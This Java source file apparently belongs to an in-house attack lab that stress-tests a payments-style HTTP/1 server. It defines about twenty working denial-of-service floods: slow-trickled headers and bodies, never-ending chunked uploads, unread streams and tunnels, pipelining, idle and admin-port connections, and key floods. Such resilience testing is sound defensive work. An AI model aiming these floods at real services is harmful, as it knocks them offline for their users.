package dev.semel.attack;

import static dev.semel.attack.lab.Requests.HOST;
import static dev.semel.attack.lab.Requests.freshKey;
import static dev.semel.attack.lab.Requests.key;

import dev.semel.attack.lab.Profile;
import dev.semel.attack.lab.Wire;
import java.io.IOException;
import java.util.List;

/** Floods of HTTP/1. */
final class ExhaustionAttacks {

    private static final int TEN_MEGABYTES = 10_000_000;
    private static final byte[] ZEROS = new byte[64 << 10];
    private static final String MALLORY = "Authorization: Bearer mallory\r\n";

    private ExhaustionAttacks() {}

    static List<Attack> all() {
        Listing list = new Listing(Group.EXHAUSTION);
        bodies(list);
        streams(list);
        keys(list);
        connections(list);
        return list.all();
    }

    private static void bodies(Listing list) {
        flood(list, "bodies-without-a-caller", "14 bodies of 10 MB without a caller", 14, (target, held) -> {
            Wire wire = held.keep(target.connect());
            wire.send(upload("nobody", "", TEN_MEGABYTES) + "Expect: 100-continue\r\n\r\n");
            send(wire, TEN_MEGABYTES - 1);
            held.rest();
        });
        flood(list, "unfinished-bodies", "14 bodies of 10 MB of one caller that never end", 14, (target, held) -> {
            Wire wire = held.keep(target.connect());
            wire.send(upload("unfinished", MALLORY, TEN_MEGABYTES) + "\r\n");
            send(wire, TEN_MEGABYTES - 1);
            held.rest();
        });
        flood(list, "uploads", "40 uploads of 10 MB", 40, (target, held) -> {
            Wire wire = held.keep(target.connect());
            wire.send(upload("upload", MALLORY, TEN_MEGABYTES) + "\r\n");
            send(wire, TEN_MEGABYTES);
            held.rest();
        });
        flood(list, "uploads-without-a-length", "40 chunked bodies without an end", 40, (target, held) -> {
            Wire wire = held.keep(target.connect());
            wire.send("POST /charges HTTP/1.1\r\n" + HOST + MALLORY + freshKey("chunked")
                    + "Transfer-Encoding: chunked\r\n\r\n");
            String chunk = "10000\r\n" + "x".repeat(0x10000) + "\r\n";
            for (int i = 0; i < 150 && !held.isOver(); i++) {
                wire.send(chunk);
            }
            held.rest();
        });
        flood(list, "slow-bodies", "200 bodies, five bytes a second", 200, (target, held) -> {
            Wire wire = held.keep(target.connect());
            wire.send(upload("slow", MALLORY, 100_000) + "\r\n");
            trickle(wire, held, "x");
        });
        flood(list, "tiny-chunks", "8 bodies in chunks of one byte", 8, (target, held) -> {
            Wire wire = held.keep(target.connect());
            wire.send("POST /charges HTTP/1.1\r\n" + HOST + MALLORY + freshKey("tiny")
                    + "Transfer-Encoding: chunked\r\n\r\n");
            while (!held.isOver()) {
                wire.send("1\r\nx\r\n".repeat(500));
                Thread.sleep(20);
            }
        });
    }

    private static void streams(Listing list) {
        flood(list, "event-streams", "300 event streams without a caller", 300, (target, held) -> {
            held.keep(target.connect()).send("GET /search/events HTTP/1.1\r\n" + HOST + "\r\n");
            held.rest();
        });
        flood(list, "tunnels", "300 tunnels without a caller", 300, (target, held) -> {
            held.keep(target.connect())
                    .send("GET /search/tunnel HTTP/1.1\r\n" + HOST
                            + "Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n");
            held.rest();
        });
        flood(list, "slow-readers", "300 readers of 8 MB that do not read", 300, (target, held) -> {
            held.keep(target.connectToReadLittle()).send("GET /search/big HTTP/1.1\r\n" + HOST + "\r\n");
            held.rest();
        });
        flood(list, "slow-passes", "300 slow requests without a key", 300, (target, held) -> {
            held.keep(target.connect()).send("GET /search/hold HTTP/1.1\r\n" + HOST + "\r\n");
            held.rest();
        });
        flood(list, "unread-replays", "900 replays of 900 KB that are not read", 300, (target, held) -> {
            Wire wire = held.keep(target.connectToReadLittle());
            String request = "POST /charges/kept HTTP/1.1\r\n" + HOST + MALLORY + key("unread-replays")
                    + "Content-Length: 2\r\n\r\n{}";
            wire.send(request);
            Thread.sleep(300);
            wire.send(request.repeat(2));
            held.rest();
        });
    }

    private static void keys(Listing list) {
        flood(list, "slow-keys", "300 keys of one caller whose requests take 8 s", 300, (target, held) -> {
            held.keep(target.connect())
                    .send("POST /charges/hold HTTP/1.1\r\n" + HOST + MALLORY + freshKey("slow-key")
                            + "Content-Length: 2\r\n\r\n{}");
            held.rest();
        });
        flood(list, "many-keys", "new keys of one caller, 1,000 a second", 8, (target, held) -> {
            Wire wire = held.keep(target.connect());
            while (!held.isOver()) {
                wire.send("POST /charges HTTP/1.1\r\n" + HOST + MALLORY + freshKey("many")
                                + "Content-Length: 2\r\n\r\n{}")
                        .answer();
                Thread.sleep(8);
            }
        });
        flood(list, "broken-requests", "keys of one caller whose outcome gets unknown", 4, (target, held) -> {
            Wire wire = held.keep(target.connect());
            while (!held.isOver()) {
                wire.send("POST /charges/break HTTP/1.1\r\n" + HOST + MALLORY + freshKey("broken")
                                + "Content-Length: 2\r\n\r\n{}")
                        .answer();
                Thread.sleep(20);
            }
        });
        flood(list, "no-caller-flood", "requests without a caller, 1,000 a second", 8, (target, held) -> {
            Wire wire = held.keep(target.connect());
            while (!held.isOver()) {
                wire.send("POST /charges HTTP/1.1\r\n" + HOST + freshKey("nobody") + "Content-Length: 2\r\n\r\n{}")
                        .answer();
                Thread.sleep(8);
            }
        });
    }

    private static void connections(Listing list) {
        flood(list, "idle-connections", "800 connections that say nothing", 8, (target, held) -> {
            for (int i = 0; i < 100 && !held.isOver(); i++) {
                held.keep(target.plain());
            }
            held.rest();
        });
        flood(list, "slow-heads", "300 heads, five bytes a second", 300, (target, held) -> {
            Wire wire = held.keep(target.connect());
            wire.send("GET /search HTTP/1.1\r\n" + HOST + "X-A: ");
            trickle(wire, held, "a");
        });
        flood(list, "large-heads", "heads of 15 KB, 400 a second", 4, (target, held) -> {
            Wire wire = held.keep(target.connect());
            String head = "GET /search HTTP/1.1\r\n" + HOST + "X-A: b\r\n".repeat(1_800) + "\r\n";
            while (!held.isOver()) {
                wire.send(head).answer();
                Thread.sleep(10);
            }
        });
        flood(list, "pipelined", "requests without end on 8 connections, no answer is read", 8, (target, held) -> {
            Wire wire = held.keep(target.connect());
            String many = ("GET /search HTTP/1.1\r\n" + HOST + "\r\n").repeat(100);
            while (!held.isOver()) {
                wire.send(many);
                Thread.sleep(100);
            }
        });
        flood(list, "admin-connections", "400 connections to the admin address", 8, (target, held) -> {
            for (int i = 0; i < 50 && !held.isOver() && target.adminPort() != 0; i++) {
                held.keep(target.connectAdmin()).send("GET /api/keys HTTP/1.1\r\nHost: ");
            }
            held.rest();
        });
    }

    private static void send(Wire wire, int bytes) throws IOException {
        for (int left = bytes; left > 0; left -= ZEROS.length) {
            wire.send(left >= ZEROS.length ? ZEROS : new byte[left]);
        }
    }

    private static void trickle(Wire wire, HeldConnections held, String piece)
            throws IOException, InterruptedException {
        while (!held.isOver()) {
            wire.send(piece);
            Thread.sleep(200);
        }
    }

    private static String upload(String name, String caller, int length) {
        return "POST /charges HTTP/1.1\r\n" + HOST + caller + freshKey(name) + "Content-Length: " + length + "\r\n";
    }

    private static void flood(Listing list, String name, String about, int connections, Flood.Stream stream) {
        list.script(name, about, new Flood(Profile.PLAIN, connections, stream));
    }
}
